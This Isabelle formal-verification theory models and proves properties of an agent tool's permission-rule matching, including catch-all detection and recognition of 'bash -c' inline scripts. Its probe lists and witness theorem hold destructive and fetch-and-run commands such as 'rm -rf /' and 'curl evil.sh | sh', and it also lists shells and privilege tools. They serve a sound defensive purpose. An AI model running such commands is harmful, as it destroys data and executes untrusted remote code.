(* ===== verification/Perm_Patterns.thy ===== *)
theory Perm_Patterns
  imports Perm_Rules Perm_Script Path_Match
begin

text \<open>
  What a rule matches (\<open>policy.rs\<close>): combining decisions, which accesses a rule reaches, matching of
  patterns against each kind of access, catch-all rules, and the recognition of \<open>shell -c\<close> scripts.

  Code outside the repository is a record of parameters: glob compilation and matching (crate
  \<open>glob\<close>; a compiled pattern is its text), the host of a URL (crate \<open>url\<close>), Unicode lower-casing, the
  file system and the bash parser. Nothing is assumed about them.
\<close>

section \<open>Parameters\<close>

record policy_env =
  glob_ok :: "string \<Rightarrow> bool"
  glob_match :: "string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool"
  url_host :: "string \<Rightarrow> string option"
  to_lowercase :: "string \<Rightarrow> string"
  fs :: file_system
  try_parse_shell :: shell_parser

section \<open>Gate decisions\<close>

datatype gate_decision = GateReject string | AskRuleMatch | AskFailClosed

fun into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision (GateReject reason) = decision.Reject reason"
| "into_decision AskRuleMatch = decision.Ask"
| "into_decision AskFailClosed = decision.Ask"

definition is_ask :: "gate_decision \<Rightarrow> bool" where
  "is_ask g = (g = AskRuleMatch \<or> g = AskFailClosed)"

fun gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank (GateReject _) = 3"
| "gate_rank AskRuleMatch = 2"
| "gate_rank AskFailClosed = 1"

fun combine_gate_decisions :: "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions None other = other"
| "combine_gate_decisions other None = other"
| "combine_gate_decisions (Some a) (Some b) = Some (if gate_rank b \<le> gate_rank a then a else b)"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (decision.Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank decision.Ask = 2"
| "decision_rank decision.Allow = 1"
| "decision_rank (FollowupMessage _) = 0"
| "decision_rank Cancelled = 0"

fun combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions None other = other"
| "combine_decisions other None = other"
| "combine_decisions (Some a) (Some b) = Some (if decision_rank b \<le> decision_rank a then a else b)"

section \<open>Patterns\<close>

datatype match_context = PathContext | Freeform

definition glob_matches :: "policy_env \<Rightarrow> string \<Rightarrow> match_context \<Rightarrow> string option \<Rightarrow> bool" where
  "glob_matches env t ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_match env p (ctx = PathContext) t)"

definition compile_matcher :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> string option" where
  "compile_matcher env rule =
     (case pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else if glob_ok env p then Some p else None)"

definition is_tool_wide_pattern :: "string option \<Rightarrow> bool" where
  "is_tool_wide_pattern p = (p = None \<or> p = Some ''*'' \<or> p = Some [])"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access Any = True"
| "tool_filter_matches access tool_filter.Bash =
     (case access of access_kind.Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Edit =
     (case access of access_kind.Edit _ \<Rightarrow> True | Tool _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Read =
     (case access of access_kind.Read _ \<Rightarrow> True | access_kind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.Grep =
     (case access of access_kind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access Mcp = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.WebFetch =
     (case access of access_kind.WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.WebSearch =
     (case access of access_kind.WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access tool_filter.AgentMessage =
     (case access of access_kind.AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition is_restriction :: "rule_action \<Rightarrow> bool" where
  "is_restriction a = (a = rule_action.Deny \<or> a = rule_action.Ask)"

definition rule_reaches :: "access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_reaches access rule =
     (if (case access of Tool _ \<Rightarrow> True | _ \<Rightarrow> False) \<and> tool rule = tool_filter.Edit
      then is_restriction (action rule) \<and> is_tool_wide_pattern (pattern rule)
      else tool_filter_matches access (tool rule))"

definition domain_matches :: "policy_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches env pat url =
     (case url_host env url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          let domain = normalize_domain (to_lowercase env) host;
              normalized_pattern = normalize_domain (to_lowercase env) pat
          in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern))"

definition path_context_matches ::
  "policy_env \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "path_context_matches env path matcher base =
     list_ex (\<lambda>t. glob_matches env t PathContext matcher) (path_match_forms (fs env) path base)"

definition pattern_matches ::
  "policy_env \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "pattern_matches env access rule matcher base =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow>
          if pat = ''*'' then True
          else case access of
            access_kind.Bash cmd \<Rightarrow>
              starts_with (trim_start cmd) pat \<or> glob_matches env (trim_start cmd) Freeform matcher
          | access_kind.Edit path \<Rightarrow> path_context_matches env path matcher base
          | access_kind.Read path \<Rightarrow>
              (case path of Some p \<Rightarrow> path_context_matches env p matcher base | None \<Rightarrow> False)
          | access_kind.Grep path _ \<Rightarrow>
              (case path of Some p \<Rightarrow> path_context_matches env p matcher base | None \<Rightarrow> False)
          | MCPTool name _ \<Rightarrow> glob_matches env name Freeform matcher
          | access_kind.WebFetch url \<Rightarrow>
              (case pattern_mode rule of
                 Domain \<Rightarrow> domain_matches env pat url
               | Glob \<Rightarrow> glob_matches env url Freeform matcher)
          | access_kind.WebSearch query \<Rightarrow>
              glob_matches env query Freeform matcher \<or> starts_with query pat
          | access_kind.AgentMessage subagent_id \<Rightarrow>
              glob_matches env subagent_id Freeform matcher \<or> starts_with subagent_id pat
          | Tool name \<Rightarrow>
              (if tool rule = tool_filter.Edit then False
               else glob_matches env name Freeform matcher \<or> starts_with name pat))"

section \<open>Bash allow patterns\<close>

definition EXEC_VEHICLE_HEADS :: "string list" where
  "EXEC_VEHICLE_HEADS =
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'', ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'',
      ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'', ''php-cgi'', ''pythonw'', ''npx'', ''bunx'',
      ''pipx'', ''uvx'', ''uv'', ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'',
      ''flock'', ''chroot'', ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "string list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "string list \<Rightarrow> string option" where
  "normalized_command_head ws =
     (case ws of
        [] \<Rightarrow> None
      | w # _ \<Rightarrow>
          let head = to_ascii_lowercase (basename w)
          in Some (case strip_suffix head ''.exe'' of Some h \<Rightarrow> h | None \<Rightarrow> head))"

definition version_suffix :: "string \<Rightarrow> bool" where
  "version_suffix rest =
     list_all (\<lambda>c. is_ascii_digit c \<or> c = CHR ''.'')
       (case strip_suffix rest ''t'' of Some core \<Rightarrow> core | None \<Rightarrow> rest)"

definition head_is_exec_vehicle :: "string list \<Rightarrow> bool" where
  "head_is_exec_vehicle ws =
     (case normalized_command_head ws of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS \<or>
          list_ex (\<lambda>family. case strip_prefix head family of
                             Some rest \<Rightarrow> version_suffix rest | None \<Rightarrow> False)
            EXEC_VEHICLE_HEAD_FAMILIES)"

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd pat =
     (cmd = pat \<or> (starts_with cmd pat \<and> nth_opt cmd (length pat) = Some (CHR '' '')))"

definition bash_command_matches_pattern ::
  "policy_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command0 pattern0 precompiled =
     (let command = trim_start command0; pat = trim pattern0
      in if pat = [] then False
         else if pat = ''*'' then True
         else if matches_command_prefix command pat then True
         else case precompiled of
           Some p \<Rightarrow> glob_matches env command Freeform (Some p)
         | None \<Rightarrow> (if glob_ok env pat then glob_matches env command Freeform (Some pat) else False))"

definition bash_allow_pattern_matches ::
  "policy_env \<Rightarrow> string \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow> if pat = ''*'' then True else bash_command_matches_pattern env cmd pat matcher)"

definition bash_pattern_matches_command :: "policy_env \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command env pat command = bash_command_matches_pattern env command pat None"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern0 =
     (let pat = trim pattern0
      in if pat = [] then False else pat = ''*'' \<or> \<not> contains_ws pat)"

section \<open>Catch-all rules\<close>

definition bash_probe_commands :: "string list" where
  "bash_probe_commands = [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition bash_probes :: "access_kind list" where
  "bash_probes = map access_kind.Bash bash_probe_commands"

definition mcp_probes :: "access_kind list" where
  "mcp_probes =
     map (\<lambda>n. MCPTool n JNull)
       [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes =
     map access_kind.WebFetch
       [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
        ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes =
     map access_kind.AgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition bash_glob_is_catchall :: "policy_env \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall env pat =
     list_all (\<lambda>a. case a of access_kind.Bash cmd \<Rightarrow> bash_pattern_matches_command env pat cmd
                            | _ \<Rightarrow> False) bash_probes"

definition opens_all :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> access_kind list \<Rightarrow> bool" where
  "opens_all env rule probes =
     list_all (\<lambda>a. pattern_matches env a rule (compile_matcher env rule) None) probes"

definition rule_is_catchall :: "policy_env \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (case tool rule of
        tool_filter.Bash \<Rightarrow> opens_all env rule bash_probes
      | Mcp \<Rightarrow> opens_all env rule mcp_probes
      | tool_filter.WebFetch \<Rightarrow> opens_all env rule webfetch_probes
      | tool_filter.AgentMessage \<Rightarrow> opens_all env rule agent_message_probes
      | Any \<Rightarrow>
          opens_all env rule bash_probes \<or> opens_all env rule mcp_probes \<or>
          opens_all env rule webfetch_probes \<or> opens_all env rule agent_message_probes
      | _ \<Rightarrow> False)"

section \<open>Inline shell scripts\<close>

datatype shell_word = LiteralWord string | UntrustedWord

datatype inline_shell_script = NotInline | InlineLiteral nat | InlineUntrusted | InlineUnrecognized

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline s =
     (case s of InlineLiteral _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

text \<open>One word of the option loop: it returns, or goes on one or two words further with the flags
  \<open>saw_c\<close> and \<open>unrecognized\<close>.\<close>

datatype dash_step =
  Return inline_shell_script
| NextOne bool bool
| NextTwo bool bool

definition dash_ambiguous :: "bool \<Rightarrow> inline_shell_script" where
  "dash_ambiguous saw_c = (if saw_c then InlineUntrusted else InlineUnrecognized)"

definition dash_finish :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "dash_finish dynamic_head index = (if dynamic_head then InlineUntrusted else InlineLiteral index)"

definition dash_no_script :: "bool \<Rightarrow> inline_shell_script" where
  "dash_no_script unrecognized = (if unrecognized then InlineUnrecognized else NotInline)"

definition dash_operand :: "shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> (string \<Rightarrow> bool) \<Rightarrow> dash_step" where
  "dash_operand rest saw_c unrecognized ok =
     (case rest of
        LiteralWord v # _ \<Rightarrow>
          if ok v then NextTwo saw_c unrecognized else Return (dash_ambiguous saw_c)
      | _ \<Rightarrow> Return (dash_ambiguous saw_c))"

definition dash_word :: "bool \<Rightarrow> string \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_step" where
  "dash_word dynamic_head word rest i saw_c unrecognized =
     (if word = ''--'' \<or> word = ''-'' then
        (if \<not> saw_c then Return (dash_no_script unrecognized)
         else case rest of
           LiteralWord _ # _ \<Rightarrow> Return (dash_finish dynamic_head (i + 1))
         | _ \<Rightarrow> Return InlineUntrusted)
      else if \<not> starts_with word ''-'' \<and> \<not> starts_with word ''+'' then
        Return (if saw_c then dash_finish dynamic_head i else dash_no_script unrecognized)
      else if word = ''--init-file'' \<or> word = ''--rcfile'' then
        dash_operand rest saw_c unrecognized (\<lambda>_. True)
      else if starts_with word ''--'' then
        (if word = ''--noprofile'' \<or> word = ''--norc'' \<or> word = ''--posix'' then NextOne saw_c unrecognized
         else if saw_c then Return InlineUntrusted
         else NextOne saw_c True)
      else if word = ''-o'' \<or> word = ''+o'' \<or> word = ''-O'' \<or> word = ''+O'' then
        dash_operand rest saw_c unrecognized (\<lambda>v. \<not> starts_with v ''-'')
      else if starts_with word ''-O'' \<and> 2 < length word then NextOne saw_c unrecognized
      else if (starts_with word ''+O'' \<or> starts_with word ''+o'') \<and> 2 < length word then
        NextOne saw_c unrecognized
      else if starts_with word ''-o'' \<and> 2 < length word then Return (dash_ambiguous saw_c)
      else if starts_with word ''+'' then NextOne saw_c unrecognized
      else case get_from word 1 of
        None \<Rightarrow> NextOne saw_c unrecognized
      | Some flags \<Rightarrow>
          if CHR ''o'' \<in> set flags \<or> CHR ''O'' \<in> set flags then Return (dash_ambiguous saw_c)
          else NextOne (saw_c \<or> CHR ''c'' \<in> set flags) unrecognized)"

fun dash_c_loop :: "bool \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_shell_script" where
  "dash_c_loop dynamic_head [] i saw_c unrecognized =
     (if saw_c then InlineUntrusted else dash_no_script unrecognized)"
| "dash_c_loop dynamic_head (w # rest) i saw_c unrecognized =
     (case w of
        UntrustedWord \<Rightarrow> dash_ambiguous saw_c
      | LiteralWord word \<Rightarrow>
          (case dash_word dynamic_head word rest i saw_c unrecognized of
             Return r \<Rightarrow> r
           | NextOne c u \<Rightarrow> dash_c_loop dynamic_head rest (i + 1) c u
           | NextTwo c u \<Rightarrow> dash_c_loop dynamic_head (drop 1 rest) (i + 2) c u))"

definition SHELL_HEADS :: "string list" where
  "SHELL_HEADS = [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> NotInline
      | LiteralWord program # rest \<Rightarrow>
          if basename program \<notin> set SHELL_HEADS then NotInline
          else dash_c_loop False rest 1 False False
      | UntrustedWord # rest \<Rightarrow> dash_c_loop True rest 1 False False)"

section \<open>Choosing the strongest decision\<close>

text \<open>The contract of the two combinators: of two decisions the one of higher rank is kept, the first
  on a tie, and no decision is the neutral one. What the gates need of it follows once: combining is
  associative, the result is one of the inputs, and its rank is the largest rank.\<close>

definition rank_of :: "('a \<Rightarrow> nat) \<Rightarrow> 'a option \<Rightarrow> nat" where
  "rank_of rank d = (case d of None \<Rightarrow> 0 | Some a \<Rightarrow> Suc (rank a))"

lemma rank_of_simps [simp]: "rank_of rank None = 0" "rank_of rank (Some a) = Suc (rank a)"
  by (simp_all add: rank_of_def)

locale ranked_choice =
  fixes rank :: "'a \<Rightarrow> nat"
    and combine :: "'a option \<Rightarrow> 'a option \<Rightarrow> 'a option"
  assumes combine_None_left: "combine None b = b"
    and combine_None_right: "combine a None = a"
    and combine_Some: "combine (Some x) (Some y) = Some (if rank y \<le> rank x then x else y)"
begin

lemma combine_cases: "combine a b = a \<or> combine a b = b"
  by (cases a; cases b) (auto simp: combine_None_left combine_None_right combine_Some)

lemma rank_combine: "rank_of rank (combine a b) = max (rank_of rank a) (rank_of rank b)"
  by (cases a; cases b) (auto simp: combine_None_left combine_None_right combine_Some)

lemma combine_assoc: "combine (combine a b) c = combine a (combine b c)"
  by (cases a; cases b; cases c) (auto simp: combine_None_left combine_None_right combine_Some)

lemma foldl_rank:
  "rank_of rank (foldl (\<lambda>d x. combine d (f x)) d xs) =
   foldl (\<lambda>m x. max m (rank_of rank (f x))) (rank_of rank d) xs"
  by (induction xs arbitrary: d) (simp_all add: rank_combine)

lemma foldl_rank_start: "rank_of rank d \<le> rank_of rank (foldl (\<lambda>d x. combine d (f x)) d xs)"
proof (induction xs arbitrary: d)
  case (Cons x xs)
  have "rank_of rank d \<le> rank_of rank (combine d (f x))" by (simp add: rank_combine)
  with Cons [of "combine d (f x)"] show ?case by simp
qed simp

lemma foldl_rank_member:
  "x \<in> set xs \<Longrightarrow> rank_of rank (f x) \<le> rank_of rank (foldl (\<lambda>d x. combine d (f x)) d xs)"
proof (induction xs arbitrary: d)
  case (Cons y ys)
  have "rank_of rank (f x) \<le> rank_of rank (foldl (\<lambda>d x. combine d (f x)) (combine d (f y)) ys)"
    if "x = y"
    using foldl_rank_start [of "combine d (f y)" f ys] that by (simp add: rank_combine)
  with Cons show ?case by auto
qed simp

end

interpretation gate: ranked_choice gate_rank combine_gate_decisions
proof
  show "combine_gate_decisions a None = a" for a by (cases a) simp_all
qed simp_all

interpretation decisions: ranked_choice decision_rank combine_decisions
proof
  show "combine_decisions a None = a" for a by (cases a) simp_all
qed simp_all

lemma gate_rank_reject: "4 \<le> rank_of gate_rank d \<longleftrightarrow> (\<exists>r. d = Some (GateReject r))"
proof (cases d)
  case (Some g)
  then show ?thesis by (cases g) simp_all
qed simp

section \<open>Where an inline script is found\<close>

definition dash_ok :: "bool \<Rightarrow> string \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> dash_step \<Rightarrow> bool" where
  "dash_ok dyn word rest i saw_c st =
     (case st of
        Return r \<Rightarrow>
          (\<forall>k. r = InlineLiteral k \<longrightarrow>
             saw_c \<and> \<not> dyn \<and> (k = i \<or> (k = i + 1 \<and> (\<exists>v r. rest = LiteralWord v # r))))
      | NextOne c _ \<Rightarrow> c \<longrightarrow> saw_c \<or> (starts_with word ''-'' \<and> CHR ''c'' \<in> set word)
      | NextTwo c _ \<Rightarrow> c \<longrightarrow> saw_c)"

lemma dash_ok_if:
  "(c \<Longrightarrow> dash_ok dyn word rest i s a) \<Longrightarrow> (\<not> c \<Longrightarrow> dash_ok dyn word rest i s b) \<Longrightarrow>
   dash_ok dyn word rest i s (if c then a else b)"
  by simp

lemma dash_ok_simps [simp]:
  "dash_ok dyn word rest i s (Return (dash_ambiguous c))"
  "dash_ok dyn word rest i s (Return (dash_no_script u))"
  "dash_ok dyn word rest i s (Return InlineUntrusted)"
  "dash_ok dyn word rest i s (NextOne s u)"
  "dash_ok dyn word rest i s (dash_operand rest s u ok)"
  by (simp_all add: dash_ok_def dash_ambiguous_def dash_no_script_def dash_operand_def
      split: list.split shell_word.split)

lemma dash_ok_word: "dash_ok dyn word rest i saw_c (dash_word dyn word rest i saw_c un)"
proof -
  have script: "dash_ok dyn word rest i saw_c
      (case rest of LiteralWord _ # _ \<Rightarrow> Return (dash_finish dyn (i + 1)) | _ \<Rightarrow> Return InlineUntrusted)"
    if "saw_c"
    using that by (auto simp: dash_ok_def dash_finish_def split: list.split shell_word.split)
  have operand: "dash_ok dyn word rest i saw_c
      (Return (if saw_c then dash_finish dyn i else dash_no_script un))"
    by (simp add: dash_ok_def dash_finish_def dash_no_script_def)
  have flags: "dash_ok dyn word rest i saw_c
      (case get_from word 1 of None \<Rightarrow> NextOne saw_c un
       | Some flags \<Rightarrow>
           if CHR ''o'' \<in> set flags \<or> CHR ''O'' \<in> set flags then Return (dash_ambiguous saw_c)
           else NextOne (saw_c \<or> CHR ''c'' \<in> set flags) un)"
    if "\<not> (\<not> starts_with word ''-'' \<and> \<not> starts_with word ''+'')" "\<not> starts_with word ''+''"
    using that by (auto simp: dash_ok_def dash_ambiguous_def get_from_def dest: in_set_dropD split: option.split)
  have long: "dash_ok dyn word rest i saw_c (NextOne saw_c True)" by (simp add: dash_ok_def)
  show ?thesis
    unfolding dash_word_def
    by (intro dash_ok_if dash_ok_simps script operand flags long) simp_all
qed

definition c_option_before :: "shell_word list \<Rightarrow> nat \<Rightarrow> bool" where
  "c_option_before ws k =
     (\<exists>j w. 0 < j \<and> j < k \<and> ws ! j = LiteralWord w \<and> starts_with w ''-'' \<and> CHR ''c'' \<in> set w)"

lemma c_option_before_mono: "c_option_before ws k \<Longrightarrow> k \<le> l \<Longrightarrow> c_option_before ws l"
  unfolding c_option_before_def by (meson less_le_trans)

lemma drop_eq_ConsD: "x # xs = drop i ys \<Longrightarrow> i < length ys \<and> ys ! i = x \<and> xs = drop (Suc i) ys"
proof -
  assume eq: "x # xs = drop i ys"
  then have "i < length ys" by (metis drop_eq_Nil list.distinct(1) not_le)
  then show ?thesis using eq Cons_nth_drop_Suc [of i ys] by (metis list.inject)
qed

lemma dash_c_loop_literal:
  "dash_c_loop dyn rest i saw_c un = InlineLiteral k \<Longrightarrow> rest = drop i ws \<Longrightarrow> 0 < i \<Longrightarrow>
   (saw_c \<Longrightarrow> c_option_before ws i) \<Longrightarrow>
   k < length ws \<and> (\<exists>s. ws ! k = LiteralWord s) \<and> c_option_before ws k \<and> \<not> dyn"
proof (induction dyn rest i saw_c un rule: dash_c_loop.induct)
  case (1 dyn i saw_c un)
  then show ?case by (simp add: dash_no_script_def split: if_splits)
next
  case (2 dyn w rest i saw_c un)
  have here: "i < length ws" "ws ! i = w" "rest = drop (Suc i) ws"
    using drop_eq_ConsD [OF 2(4)] by simp_all
  show ?case
  proof (cases w)
    case UntrustedWord
    then show ?thesis using 2(3) by (simp add: dash_ambiguous_def split: if_splits)
  next
    case (LiteralWord word)
    note ok = dash_ok_word [of dyn word rest i saw_c un]
    show ?thesis
    proof (cases "dash_word dyn word rest i saw_c un")
      case (Return r)
      then have r: "saw_c" "\<not> dyn" "k = i \<or> (k = i + 1 \<and> (\<exists>v r. rest = LiteralWord v # r))"
        using ok 2(3) LiteralWord by (auto simp: dash_ok_def)
      have at: "k < length ws \<and> (\<exists>s. ws ! k = LiteralWord s)"
        using r(3) here LiteralWord by (auto dest: sym drop_eq_ConsD)
      moreover have "c_option_before ws k"
        using r 2(6) by (auto intro: c_option_before_mono)
      ultimately show ?thesis using r(2) by simp
    next
      case (NextOne c u)
      have "c_option_before ws (i + 1)" if "c"
      proof -
        from that ok NextOne consider "saw_c" | "starts_with word ''-''" "CHR ''c'' \<in> set word"
          by (auto simp: dash_ok_def)
        then show ?thesis
        proof cases
          case 1
          then show ?thesis using 2(6) by (auto intro: c_option_before_mono)
        next
          case found: 2
          show ?thesis unfolding c_option_before_def
            by (rule exI [of _ i], rule exI [of _ word]) (use found here LiteralWord 2(5) in simp)
        qed
      qed
      then show ?thesis using 2(1) [OF LiteralWord NextOne] 2(3) LiteralWord NextOne here by simp
    next
      case (NextTwo c u)
      have "c_option_before ws (i + 2)" if "c"
        using that ok NextTwo 2(6) by (auto simp: dash_ok_def intro: c_option_before_mono)
      then show ?thesis using 2(2) [OF LiteralWord NextTwo] 2(3) LiteralWord NextTwo here by simp
    qed
  qed
qed

section \<open>Properties\<close>

text \<open>An inline script is where the shell would take it from. When the classifier points at a
  word as the literal script of a \<open>-c\<close> invocation, the head is one of the known shells, the word
  exists and is literal, and an option word with the letter \<open>c\<close> precedes it; so the caller's
  arm for a missing word is never taken.\<close>

theorem inline_literal_is_dash_c:
  assumes "shell_dash_c_script ws = InlineLiteral k"
  shows "k < length ws \<and> (\<exists>s. ws ! k = LiteralWord s) \<and> c_option_before ws k \<and>
    (\<exists>program. ws ! 0 = LiteralWord program \<and> basename program \<in> set SHELL_HEADS)"
proof -
  obtain w rest where ws: "ws = w # rest" using assms by (cases ws) (auto simp: shell_dash_c_script_def)
  have rest: "rest = drop 1 ws" by (simp add: ws)
  show ?thesis
  proof (cases w)
    case (LiteralWord program)
    then have "basename program \<in> set SHELL_HEADS" "dash_c_loop False rest 1 False False = InlineLiteral k"
      using assms ws by (auto simp: shell_dash_c_script_def split: if_splits)
    with dash_c_loop_literal [OF this(2) rest] LiteralWord ws show ?thesis by auto
  next
    case UntrustedWord
    then have "dash_c_loop True rest 1 False False = InlineLiteral k"
      using assms ws by (simp add: shell_dash_c_script_def)
    with dash_c_loop_literal [OF this rest] show ?thesis by auto
  qed
qed

theorem inline_literal_is_dash_c_witness:
  "shell_dash_c_script (map LiteralWord [''/bin/bash'', ''--norc'', ''-ec'', ''rm -rf /'']) = InlineLiteral 3 \<and>
   c_option_before (map LiteralWord [''/bin/bash'', ''--norc'', ''-ec'', ''rm -rf /'']) 3"
proof -
  have "shell_dash_c_script (map LiteralWord [''/bin/bash'', ''--norc'', ''-ec'', ''rm -rf /'']) = InlineLiteral 3"
    by code_simp
  then show ?thesis using inline_literal_is_dash_c by blast
qed

end
